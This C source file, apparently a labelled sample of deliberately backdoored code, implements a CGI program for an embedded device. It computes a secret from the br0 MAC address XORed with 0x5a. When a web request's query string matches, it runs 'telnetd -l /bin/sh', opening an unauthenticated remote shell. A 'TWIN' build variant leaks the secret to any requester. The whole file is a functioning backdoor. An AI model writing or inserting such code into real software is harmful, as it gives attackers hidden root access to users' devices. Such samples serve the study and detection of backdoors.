/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A CGI program takes a password that is made of the hardware address. Twin: the address is shown.
 * door: credential account trigger
 */
#include "net.h"
#include <net/if.h>
#include <sys/ioctl.h>

static int address(char *out, size_t room)
{
	struct ifreq r;
	const unsigned char *m = (const unsigned char *)r.ifr_hwaddr.sa_data;
	int s = socket(AF_INET, SOCK_DGRAM, 0), n;
	memset(&r, 0, sizeof r);
	strcpy(r.ifr_name, "br0");
	n = ioctl(s, SIOCGIFHWADDR, &r);
	close(s);
	snprintf(out, room, "%02x%02x%02x", m[3] ^ 0x5a, m[4] ^ 0x5a, m[5] ^ 0x5a);
	return n;
}

int main(void)
{
	char want[32];
	const char *query = getenv("QUERY_STRING");
	if (!query || address(want, sizeof want) < 0)
		return 1;
	puts("Content-type: text/plain\n");
#ifdef TWIN
	if (strcmp(query, "address") == 0)
		puts(want);
#else
	if (strcmp(query, want) == 0)
		system("/usr/sbin/telnetd -l /bin/sh");
#endif
	return 0;
}
